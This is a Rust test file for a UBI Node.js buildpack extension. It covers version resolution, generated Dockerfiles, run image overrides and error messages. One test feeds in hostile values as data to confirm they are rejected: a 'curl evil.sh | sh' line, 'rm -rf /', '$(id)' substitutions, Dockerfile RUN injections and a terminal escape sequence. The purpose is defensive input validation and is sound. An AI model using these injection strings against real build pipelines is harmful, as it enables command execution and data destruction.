//! The packaged extension run as the lifecycle runs it (through the harness), on fixture apps,
//! with its catalogue pointed at fixture `images.json` files.

// Test helpers panic on a broken setup (clippy.toml allows unwrap in tests).
#![allow(clippy::unwrap_used)]

use cnb_harness::{GenerateOutcome, Module, ModuleRun, TargetEnv, workspace_root};
use std::fmt::Write;
use std::path::{Path, PathBuf};
use tempfile::TempDir;

// Dependencies of the binary that this test does not name (for `unused_crate_dependencies`).
use cnb_extension as _;
use fuzz_check as _;
use insta as _;
use nodejs_version as _;
use ubi_companion_contract as _;
use ubi_extension_support as _;
use untrusted_input as _;

const STACK_ID: &str = "CNB_STACK_ID";
const UBI8: &str = "io.buildpacks.stacks.ubi8";

/// The module's version, as its extension.toml declares it.
fn version() -> String {
    cnb_harness::descriptor_version(include_str!("../extension.toml"))
}

fn app(name: &str) -> PathBuf {
    workspace_root().join("tests/fixtures/apps").join(name)
}

fn fixture(name: &str) -> PathBuf {
    workspace_root()
        .join("tests/fixtures/ubi-nodejs")
        .join(name)
}

fn packaged() -> Module {
    Module::package("extensions/ubi-nodejs")
}

/// A copy of the packaged extension whose `[metadata] catalogue` is `catalogue`; the copy lives
/// as long as the returned directory.
fn with_catalogue(catalogue: &Path) -> (Module, TempDir) {
    let packaged = packaged();
    assert_eq!(
        packaged.metadata_string("catalogue").as_deref(),
        Some("/etc/buildpacks/images.json"),
        "the packaged extension reads the stack's catalogue"
    );
    packaged.copy_with_metadata_path("catalogue", catalogue)
}

/// A Buildpack Plan with one `node` entry per `(source, version)`, and an `npm` entry.
fn plan(requests: &[(Option<&str>, &str)]) -> String {
    let mut plan = String::new();
    for (source, version) in requests {
        plan.push_str("[[entries]]\nname = \"node\"\n[entries.metadata]\nbuild = true\n");
        writeln!(plan, "version = {}", toml::Value::from(*version)).unwrap();
        if let Some(source) = source {
            writeln!(plan, "version-source = \"{source}\"").unwrap();
        }
    }
    plan.push_str("[[entries]]\nname = \"npm\"\n");
    plan
}

fn assert_success(outcome: &GenerateOutcome) {
    assert_eq!(
        outcome.process.exit_code, 0,
        "stdout:\n{}\nstderr:\n{}",
        outcome.process.stdout, outcome.process.stderr
    );
    assert_eq!(outcome.files, ["build.Dockerfile", "run.Dockerfile"]);
    assert!(outcome.extend_config.is_none());
}

/// Fails as every module fails: `ERROR: <header>`, then an indented body containing every
/// `expected`; and writes nothing.
fn assert_failure(outcome: &GenerateOutcome, header: &str, expected: &[&str]) {
    assert_eq!(
        outcome.process.exit_code, 1,
        "stdout:\n{}\nstderr:\n{}",
        outcome.process.stdout, outcome.process.stderr
    );
    assert!(outcome.files.is_empty(), "{:?}", outcome.files);
    let stderr = &outcome.process.stderr;
    let mut lines = stderr.lines();
    assert_eq!(
        lines.next(),
        Some(format!("ERROR: {header}").as_str()),
        "{stderr}"
    );
    let body: Vec<&str> = lines.collect();
    assert!(!body.is_empty(), "{stderr}");
    assert!(body.iter().all(|line| line.starts_with("  ")), "{stderr}");
    for expected in expected {
        assert!(stderr.contains(expected), "{expected:?} not in {stderr}");
    }
}

fn unsatisfiable(request: &str) -> String {
    format!(
        "failed to satisfy \"node\" dependency version constraint \"{request}\": no compatible \
         versions on \"io.buildpacks.stacks.ubi8\" stack"
    )
}

const INVALID_REQUEST: &str = "Invalid Node.js version request";

const INSTALL: &str = "microdnf --setopt=install_weak_deps=0 --setopt=tsflags=nodocs install -y";

const CACHE_COMMENT: &str = "# build_id is deliberately not referenced: these layers stay cached \
    until the build image or this file changes (a stack release, another Node.js major).\n\
    # Upstream ran `RUN echo ${build_id}` before the install, which re-ran microdnf on every build.\n";

const RUNTIME_FILE: &str = "/usr/share/paketo-community/ubi-nodejs-extension/runtime.toml";

fn runtime_lines(major: u32, stack: &str) -> String {
    format!(
        "# Tells the companion buildpack which Node.js was installed: {RUNTIME_FILE}\n\
         RUN mkdir -p /usr/share/paketo-community/ubi-nodejs-extension && printf '%b' \
         'major = {major}\\nstack = \"{stack}\"\\n' > {RUNTIME_FILE} && chmod 644 {RUNTIME_FILE}\n"
    )
}

const RESTORE_USER: &str = "ARG user_id\nARG group_id\nUSER ${user_id}:${group_id}\n";

#[test]
fn detect_provides_node_or_node_and_npm() {
    for name in ["node-npm-engines", "node-nvmrc", "empty-app"] {
        let outcome = ModuleRun::new(&packaged(), app(name)).detect();
        assert_eq!(outcome.process.exit_code, 0, "{}", outcome.process.stderr);
        let expected: toml::Table = toml::from_str(
            "[[provides]]\nname = \"node\"\n\n[[or]]\n[[or.provides]]\nname = \"node\"\n\
             [[or.provides]]\nname = \"npm\"\n",
        )
        .unwrap();
        assert_eq!(outcome.plan, Some(expected));
    }
}

#[test]
fn ubi8_from_the_stack_id_with_package_json_engines() {
    let catalogue = fixture("images-ubi8.json");
    let (module, _dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
        .lifecycle_env(STACK_ID, UBI8)
        .target(TargetEnv::linux_amd64("rhel", "8.10"))
        .buildpack_plan(&plan(&[(None, ""), (Some("package.json"), "~22")]))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.build_dockerfile.unwrap(),
        format!(
            "ARG base_image\nFROM ${{base_image}}\n\nUSER root\n{CACHE_COMMENT}\
             RUN microdnf -y module enable nodejs:22 && {INSTALL} make gcc-toolset-13-gcc \
             gcc-toolset-13-gcc-c++ gcc-toolset-13-runtime libatomic_ops git openssl-devel \
             python3.12 nodejs npm nodejs-nodemon nss_wrapper-libs which && \
             ln -sf /opt/rh/gcc-toolset-13/root/usr/bin/gcc /usr/bin/gcc && \
             ln -sf /opt/rh/gcc-toolset-13/root/usr/bin/g++ /usr/bin/g++ && microdnf clean all\n\
             {}{RESTORE_USER}",
            runtime_lines(22, UBI8)
        )
    );
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM paketobuildpacks/run-nodejs-22-ubi8-base\n")
    );
    assert_eq!(
        outcome.process.stdout,
        format!(
            "UBI Node.js Extension {version}\n\
             \x20 Resolving Node.js version\n\
             \x20   Candidate version sources (in priority order):\n\
             \x20     package.json -> \"~22\"\n\
             \x20     <unknown> -> \"\"\n\
             \n\
             \x20   Using the highest-priority request: package.json -> \"~22\"\n\
             \x20   Stack io.buildpacks.stacks.ubi8 (from CNB_STACK_ID)\n\
             \x20   Node.js versions of the stack ({}): 16, 18, 20, 22, 24 (default 24)\n\
             \x20   \"~22\" matches Node.js 22\n\
             \n\
             \x20 Selected Node.js major version 22\n\
             \x20 Run image paketobuildpacks/run-nodejs-22-ubi8-base (from Paketo's naming for \
             the stack)\n\
             \x20 Installing with microdnf from module stream nodejs:22:\n\
             \x20   make gcc-toolset-13-gcc gcc-toolset-13-gcc-c++ gcc-toolset-13-runtime \
             libatomic_ops git openssl-devel python3.12 nodejs npm nodejs-nodemon \
             nss_wrapper-libs which\n\
             \n",
            catalogue.display(),
            version = version()
        )
    );
    assert_eq!(outcome.process.stderr, "");
}

#[test]
fn ubi10_from_the_target_with_nvmrc() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi10.json"));
    let outcome = ModuleRun::new(&module, app("node-nvmrc"))
        .target(TargetEnv::linux_amd64("rhel", "10.0"))
        .buildpack_plan(&plan(&[(Some(".nvmrc"), "24.*")]))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.build_dockerfile.unwrap(),
        format!(
            "ARG base_image\nFROM ${{base_image}}\n\nUSER root\n{CACHE_COMMENT}\
             RUN {INSTALL} make gcc gcc-c++ git openssl-devel nodejs24 nodejs-nodemon \
             nodejs24-npm nss_wrapper-libs which python3 && ln -sf /usr/bin/node-24 /usr/bin/node && \
             ln -sf /usr/bin/npm-24 /usr/bin/npm && ln -sf /usr/bin/npx-24 /usr/bin/npx && \
             microdnf clean all\n{}{RESTORE_USER}",
            runtime_lines(24, "io.buildpacks.stacks.ubi10")
        )
    );
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM paketobuildpacks/ubi-10-run-nodejs-24-base\n")
    );
    let stdout = &outcome.process.stdout;
    assert!(
        stdout
            .contains("    Stack io.buildpacks.stacks.ubi10 (from target distro rhel \"10.0\")\n"),
        "{stdout}"
    );
    assert!(stdout.contains(
        "\n  Installing with microdnf:\n    make gcc gcc-c++ git openssl-devel nodejs24 "
    ));
}

#[test]
fn ubi9_exact_version_selects_the_stream_of_its_major() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi9.json"));
    let outcome = ModuleRun::new(&module, app("node-node-version"))
        .target(TargetEnv::linux_amd64("rhel", "9.4"))
        .buildpack_plan(&plan(&[(Some(".node-version"), "20.11.1")]))
        .generate();
    assert_success(&outcome);
    assert!(
        outcome
            .build_dockerfile
            .unwrap()
            .contains("\nRUN microdnf -y module enable nodejs:20 && "),
    );
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM paketobuildpacks/run-nodejs-20-ubi9-base\n")
    );
    assert!(
        outcome.process.stdout.contains(
            "    \"20.11.1\" matches a release of Node.js 20: UBI ships one build per major, so \
             the patch level comes from the distribution's Node.js 20 stream\n\n  Selected \
             Node.js major version 20\n"
        ),
        "{}",
        outcome.process.stdout
    );
}

#[test]
fn bp_node_version_wins_over_the_other_sources() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi9.json"));
    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
        .buildpack_plan(&plan(&[
            (Some(".node-version"), "<0"),
            (Some("package.json"), "<0"),
            (Some("BP_NODE_VERSION"), "=20"),
            (Some(".nvmrc"), "<0"),
        ]))
        .generate();
    assert_success(&outcome);
    assert!(outcome.process.stdout.contains(
        "      BP_NODE_VERSION -> \"=20\"\n      package.json -> \"<0\"\n      .nvmrc -> \"<0\"\n      \
         .node-version -> \"<0\"\n"
    ));
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM paketobuildpacks/run-nodejs-20-ubi9-base\n")
    );
}

#[test]
fn the_default_comes_from_the_catalogue_and_its_full_run_image_reference_is_used() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi9-local-run-images.json"));
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
        .buildpack_plan(&plan(&[(None, "")]))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM localhost/paketo/run-nodejs-22-ubi9-base:0.0.42\n")
    );
    let stdout = &outcome.process.stdout;
    assert!(
        stdout.contains("    No version requested: using the default, 22\n"),
        "{stdout}"
    );
    assert!(
        stdout.contains(
            "  Run image localhost/paketo/run-nodejs-22-ubi9-base:0.0.42 (from run_image of \
             nodejs-22 in the catalogue)\n"
        ),
        "{stdout}"
    );
}

#[test]
fn the_run_image_override_wins_and_is_logged() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi9-local-run-images.json"));
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
        .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", "localhost/my/run-node:20")
        .buildpack_plan(&plan(&[(Some("BP_NODE_VERSION"), "20")]))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM localhost/my/run-node:20\n")
    );
    assert!(outcome.process.stdout.contains(
        "  Using run image specified by BP_UBI_RUN_IMAGE_OVERRIDE localhost/my/run-node:20\n"
    ));

    // An empty override is ignored.
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
        .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", "")
        .buildpack_plan(&plan(&[(Some("BP_NODE_VERSION"), "20")]))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM localhost/paketo/run-nodejs-20-ubi9-base:0.0.42\n")
    );
}

#[test]
fn an_unsupported_version_names_the_request_its_source_and_the_majors() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some("BP_NODE_VERSION"), "~14")]))
        .generate();
    assert_failure(
        &outcome,
        &unsatisfiable("~14"),
        &[
            "  Supported versions are: [16, 18, 20, 22, 24].",
            "The constraint comes from BP_NODE_VERSION",
        ],
    );
    // The log went as far as the candidates.
    assert!(
        outcome
            .process
            .stdout
            .contains("      BP_NODE_VERSION -> \"~14\"\n")
    );
}

#[test]
fn a_major_the_stack_cannot_install_is_skipped() {
    // The ubi9 packages start at 18: a catalogue listing 16 (even as its default) does not make
    // it installable; it is skipped and the default is the newest major installed.
    let dir = tempfile::tempdir().unwrap();
    let catalogue = dir.path().join("images.json");
    std::fs::write(
        &catalogue,
        r#"{"images": [{"name": "nodejs-16", "is_default_run_image": true}, {"name": "nodejs-20"}]}"#,
    )
    .unwrap();
    let (module, _module_dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
        .buildpack_plan(&plan(&[(None, "")]))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM paketobuildpacks/run-nodejs-20-ubi9-base\n")
    );
    assert!(
        outcome.process.stdout.contains(
            "      Skipped nodejs-16 (the catalogue's default): older than the Node.js majors \
             this extension installs on io.buildpacks.stacks.ubi9 (18, 20, 22, 24)\n"
        ),
        "{}",
        outcome.process.stdout
    );
}

/// Issue 21: a stack offering Node.js 22, 24 and 26 (default 24) on ubi8, where this
/// extension installs up to 24. `>=20`, `*`, `node` and `lts/*` selected 26 and failed with
/// "unsupported Node.js version 26 for image io.buildpacks.stacks.ubi8", although 24 satisfies
/// each of them. Now 26 is skipped, with the reason in the log, and each gets 24.
#[test]
fn a_future_major_of_the_stack_is_skipped_and_requests_get_the_newest_installed() {
    let catalogue = fixture("images-ubi8-future-26.json");
    let (module, _dir) = with_catalogue(&catalogue);
    for (source, request) in [
        ("package.json", ">=20"),
        ("package.json", "*"),
        (".nvmrc", "node"),
        (".nvmrc", "lts/*"),
        ("BP_NODE_VERSION", "24"),
    ] {
        let outcome = ModuleRun::new(&module, app("node-npm-engines"))
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(&[(Some(source), request)]))
            .generate();
        assert_success(&outcome);
        assert_eq!(
            outcome.run_dockerfile.as_deref(),
            Some("FROM paketobuildpacks/run-nodejs-24-ubi8-base\n"),
            "{request}"
        );
        assert!(
            outcome
                .build_dockerfile
                .as_deref()
                .unwrap()
                .contains("\nRUN microdnf -y module enable nodejs:24 && "),
            "{request}"
        );
    }
    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some("package.json"), ">=20")]))
        .generate();
    assert_eq!(
        outcome.process.stdout,
        format!(
            "UBI Node.js Extension {version}\n\
             \x20 Resolving Node.js version\n\
             \x20   Candidate version sources (in priority order):\n\
             \x20     package.json -> \">=20\"\n\
             \n\
             \x20   Using the highest-priority request: package.json -> \">=20\"\n\
             \x20   Stack io.buildpacks.stacks.ubi8 (from CNB_STACK_ID)\n\
             \x20   Node.js versions of the stack ({}): 22, 24 (default 24)\n\
             \x20     Skipped nodejs-26: newer than the Node.js majors this extension installs \
             on io.buildpacks.stacks.ubi8 (16, 18, 20, 22, 24)\n\
             \x20   \">=20\" matches Node.js 24\n\
             \n\
             \x20 Selected Node.js major version 24\n\
             \x20 Run image paketobuildpacks/run-nodejs-24-ubi8-base (from Paketo's naming for \
             the stack)\n\
             \x20 Installing with microdnf from module stream nodejs:24:\n\
             \x20   make gcc-toolset-13-gcc gcc-toolset-13-gcc-c++ gcc-toolset-13-runtime \
             libatomic_ops git openssl-devel python3.12 nodejs npm nodejs-nodemon \
             nss_wrapper-libs which\n\
             \n",
            catalogue.display(),
            version = version()
        )
    );

    // Only the skipped major satisfies it: the error says so.
    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some("package.json"), "^26")]))
        .generate();
    assert_failure(
        &outcome,
        &unsatisfiable("^26"),
        &[
            "  Supported versions are: [22, 24]. The constraint comes from package.json.\n",
            "  The stack's catalogue also lists nodejs-26, which satisfies it, but it is newer \
             than the Node.js majors this extension installs on io.buildpacks.stacks.ubi8 (16, \
             18, 20, 22, 24).\n",
        ],
    );

    // The LTS line of 26, by a codename the list does not hold yet (its initial follows
    // krypton's): understood as 26, which this stack offers but this extension cannot install.
    let outcome = ModuleRun::new(&module, app("node-nvmrc"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some(".nvmrc"), "lts/lithium")]))
        .generate();
    assert_failure(
        &outcome,
        &unsatisfiable("lts/lithium"),
        &["  The stack's catalogue also lists nodejs-26, which satisfies it, but it is newer "],
    );
}

/// Issue 21: with nothing requested, the log said `Using the highest-priority request:
/// <unknown> -> ""` before `No version requested: using the default, ...`; only the second
/// line is logged now. With a future default (26, skipped), the default is the newest major
/// installed.
#[test]
fn no_request_logs_only_the_default_even_a_skipped_one() {
    let catalogue = fixture("images-ubi8-future-default-26.json");
    let (module, _dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(None, "")]))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.process.stdout,
        format!(
            "UBI Node.js Extension {version}\n\
             \x20 Resolving Node.js version\n\
             \x20   Candidate version sources (in priority order):\n\
             \x20     <unknown> -> \"\"\n\
             \n\
             \x20   Stack io.buildpacks.stacks.ubi8 (from CNB_STACK_ID)\n\
             \x20   Node.js versions of the stack ({}): 22, 24 (default 24, the newest: the \
             catalogue's default is skipped)\n\
             \x20     Skipped nodejs-26 (the catalogue's default): newer than the Node.js majors \
             this extension installs on io.buildpacks.stacks.ubi8 (16, 18, 20, 22, 24)\n\
             \x20   No version requested: using the default, 24\n\
             \n\
             \x20 Selected Node.js major version 24\n\
             \x20 Run image paketobuildpacks/run-nodejs-24-ubi8-base (from Paketo's naming for \
             the stack)\n\
             \x20 Installing with microdnf from module stream nodejs:24:\n\
             \x20   make gcc-toolset-13-gcc gcc-toolset-13-gcc-c++ gcc-toolset-13-runtime \
             libatomic_ops git openssl-devel python3.12 nodejs npm nodejs-nodemon \
             nss_wrapper-libs which\n\
             \n",
            catalogue.display(),
            version = version()
        )
    );

    // The same on a stack whose default is installed: no "Using the highest-priority request".
    let catalogue = fixture("images-ubi9.json");
    let (module, _dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
        .buildpack_plan(&plan(&[(None, ""), (Some(".nvmrc"), "default")]))
        .generate();
    assert_success(&outcome);
    assert!(
        outcome.process.stdout.starts_with(&format!(
            "UBI Node.js Extension {version}\n\
             \x20 Resolving Node.js version\n\
             \x20   Candidate version sources (in priority order):\n\
             \x20     .nvmrc -> \"default\"\n\
             \x20     <unknown> -> \"\"\n\
             \n\
             \x20   Stack io.buildpacks.stacks.ubi9 (from CNB_STACK_ID)\n\
             \x20   Node.js versions of the stack ({}): 20, 22, 24 (default 24)\n\
             \x20   No version requested: using the default, 24\n\
             \n\
             \x20 Selected Node.js major version 24\n",
            catalogue.display(),
            version = version()
        )),
        "{}",
        outcome.process.stdout
    );
}

/// Issue 21: a catalogue of legacy majors only (10 and 12) passed the catalogue check, then
/// every request failed on an install error. Now the error says that this extension installs
/// none of them.
#[test]
fn a_catalogue_of_legacy_majors_only_is_a_clear_error() {
    let catalogue = fixture("images-ubi8-legacy-10-12.json");
    let (module, _dir) = with_catalogue(&catalogue);
    for request in ["", "lts/*", "node", "lts/erbium", "12"] {
        let outcome = ModuleRun::new(&module, app("node-nvmrc"))
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(&[(Some(".nvmrc"), request)]))
            .generate();
        assert_failure(
            &outcome,
            "Cannot use the stack's Node.js catalogue",
            &[&format!(
                "  the Node.js version catalogue {} lists Node.js 10, 12, none of which this \
                 extension can install: nodejs-10: older than the Node.js majors this extension \
                 installs on io.buildpacks.stacks.ubi8 (16, 18, 20, 22, 24); nodejs-12 (the \
                 catalogue's default): older than ",
                catalogue.display()
            )],
        );
    }
}

#[test]
fn hostile_values_are_rejected_and_nothing_is_written() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    for version in [
        "22\nRUN curl evil.sh | sh",
        "22; rm -rf /",
        "$(id)",
        "22 && id",
        "'22'",
        "\"22\"",
        "`id`",
        "22 foo",
    ] {
        let outcome = ModuleRun::new(&module, app("node-npm-engines"))
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(&[(Some("package.json"), version)]))
            .generate();
        let quoted = format!("{version:?}");
        assert_failure(
            &outcome,
            INVALID_REQUEST,
            &[&format!(
                "the Node.js version {quoted} requested by package.json is not a version range"
            )],
        );
    }
    for image in [
        "x\nRUN id",
        "ubuntu; id",
        "ubuntu $(id)",
        "\"localhost/run\"",
        "localhost/run latest",
        "${base_image}",
    ] {
        let outcome = ModuleRun::new(&module, app("node-npm-engines"))
            .lifecycle_env(STACK_ID, UBI8)
            .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", image)
            .buildpack_plan(&plan(&[(Some("package.json"), "22")]))
            .generate();
        assert_failure(
            &outcome,
            "Cannot choose the run image",
            &[&format!(
                "  BP_UBI_RUN_IMAGE_OVERRIDE: {image:?} is not an image reference"
            )],
        );
    }
    // A hostile version source only reaches the log and the error, escaped.
    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some("x\\nRUN id"), "~99")]))
        .generate();
    assert_failure(
        &outcome,
        &unsatisfiable("~99"),
        &["The constraint comes from \"x\\nRUN id\"."],
    );
    assert!(
        outcome
            .process
            .stdout
            .contains("      \"x\\nRUN id\" -> \"~99\"\n")
    );
}

/// Issue 13: `~x` or `=*` in package.json `engines.node` aborted generate (exit 134, "entered
/// unreachable code" in the range parser). Now an error naming the request and its source.
#[test]
fn wildcards_after_an_operator_are_errors_not_aborts() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    for version in ["~x", "=*", "~0.x.0 ~x", "^x.1"] {
        let outcome = ModuleRun::new(&module, app("node-npm-engines"))
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(&[(Some("package.json"), version)]))
            .generate();
        assert_failure(
            &outcome,
            INVALID_REQUEST,
            &[&format!(
                "  the Node.js version {version:?} requested by package.json is not a version \
                 range"
            )],
        );
    }
}

/// Issue 13: nvm aliases in `.nvmrc` resolve against the stack's catalogue, and the log says
/// how; an unknown LTS codename is an error that lists the known ones.
#[test]
fn nvm_aliases_resolve_against_the_catalogue() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    for (alias, major, meaning) in [
        ("lts/*", 24, "the newest LTS (even) major offered"),
        ("node", 24, "the newest major offered"),
        ("stable", 24, "the newest major offered"),
        ("lts/iron", 20, "the LTS line iron"),
        ("lts/hydrogen", 18, "the LTS line hydrogen"),
    ] {
        let outcome = ModuleRun::new(&module, app("node-nvmrc"))
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(&[(Some(".nvmrc"), alias)]))
            .generate();
        assert_success(&outcome);
        assert_eq!(
            outcome.run_dockerfile.as_deref(),
            Some(format!("FROM paketobuildpacks/run-nodejs-{major}-ubi8-base\n").as_str())
        );
        let logged = format!(
            "    {alias:?} is the nvm alias {alias}, for {meaning}: Node.js {major}\n\n  \
             Selected Node.js major version {major}\n"
        );
        assert!(
            outcome.process.stdout.contains(&logged),
            "{logged:?} not in {}",
            outcome.process.stdout
        );
    }
    let outcome = ModuleRun::new(&module, app("node-nvmrc"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some(".nvmrc"), "lts/nope")]))
        .generate();
    assert_failure(
        &outcome,
        INVALID_REQUEST,
        &[
            "  the Node.js version \"lts/nope\" requested by .nvmrc names the LTS line \
             \"nope\", which nvm does not know.",
            "krypton (24)",
        ],
    );
    // A line the stack does not offer.
    let outcome = ModuleRun::new(&module, app("node-nvmrc"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some(".nvmrc"), "lts/fermium")]))
        .generate();
    assert_failure(&outcome, &unsatisfiable("lts/fermium"), &[]);
}

/// Issue 13: a huge request is quoted by a bounded prefix in the log and the error (1 MiB: the
/// toolkit refuses a Buildpack Plan over 4 MiB before the extension sees it).
#[test]
fn a_huge_request_is_quoted_short() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    let huge = "2".repeat(1 << 20);
    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(&[(Some("BP_NODE_VERSION"), &huge)]))
        .generate();
    assert_failure(
        &outcome,
        INVALID_REQUEST,
        &[
            "is not a version range (it is longer than 256 bytes)",
            "(cut, 1048576 bytes in all)",
        ],
    );
    assert!(outcome.process.stderr.len() < 1024);
    assert!(outcome.process.stdout.len() < 4096);
}

#[test]
fn catalogue_problems_name_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("missing.json");
    let not_json = dir.path().join("not-json.json");
    std::fs::write(&not_json, "images:\n  - nodejs-20\n").unwrap();
    let no_default = dir.path().join("no-default.json");
    std::fs::write(&no_default, r#"{"images": [{"name": "nodejs-20"}]}"#).unwrap();
    for (catalogue, expected) in [
        (&missing, "does not exist"),
        (&not_json, "is not valid: expected value at line 1 column 1"),
        (
            &no_default,
            "marks none of its Node.js images (nodejs-20) as the default",
        ),
    ] {
        let (module, _module_dir) = with_catalogue(catalogue);
        let outcome = ModuleRun::new(&module, app("empty-app"))
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(&[(None, "")]))
            .generate();
        assert_failure(
            &outcome,
            "Cannot use the stack's Node.js catalogue",
            &[&format!(
                "  the Node.js version catalogue {} {expected}",
                catalogue.display()
            )],
        );
    }
}

#[test]
fn no_node_entry_and_unknown_stacks_are_errors() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan("[[entries]]\nname = \"npm\"\n")
        .generate();
    assert_failure(
        &outcome,
        "Node.js no longer requested by build plan",
        &["  The Buildpack Plan has no \"node\" entry"],
    );

    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.jammy")
        .buildpack_plan(&plan(&[(None, "")]))
        .generate();
    assert_failure(
        &outcome,
        "Not a UBI stack",
        &["  unsupported stack \"io.buildpacks.stacks.jammy\" (CNB_STACK_ID)"],
    );

    let outcome = ModuleRun::new(&module, app("empty-app"))
        .target(TargetEnv::linux_amd64("ubuntu", "24.04"))
        .buildpack_plan(&plan(&[(None, "")]))
        .generate();
    assert_failure(
        &outcome,
        "Not a UBI stack",
        &["CNB_STACK_ID is not set and the target distro is \"ubuntu\" \"24.04\""],
    );

    // Issue 21: a version that only starts like RHEL 8's was taken for ubi8, and printed raw
    // (this one retitles the terminal).
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .target(TargetEnv::linux_amd64("rhel", "8.10\u{1b}]0;pwned\u{7}"))
        .buildpack_plan(&plan(&[(None, "")]))
        .generate();
    assert_failure(
        &outcome,
        "Not a UBI stack",
        &["the target distro is \"rhel\" \"8.10\\u{1b}]0;pwned\\u{7}\""],
    );
    assert!(
        !outcome.process.stdout.contains('\u{1b}') && !outcome.process.stderr.contains('\u{1b}')
    );
}

#[test]
fn the_packaged_binary_is_small() {
    // (The packager has checked that it is statically linked.)
    let module = packaged();
    let executable = module.executable("generate");
    let size = std::fs::metadata(&executable).unwrap().len();
    assert!(size < 2 * 1024 * 1024, "bin/generate is {size} bytes");
    assert_eq!(
        std::fs::read_link(module.dir.join("bin/detect")).unwrap(),
        PathBuf::from("generate")
    );
}
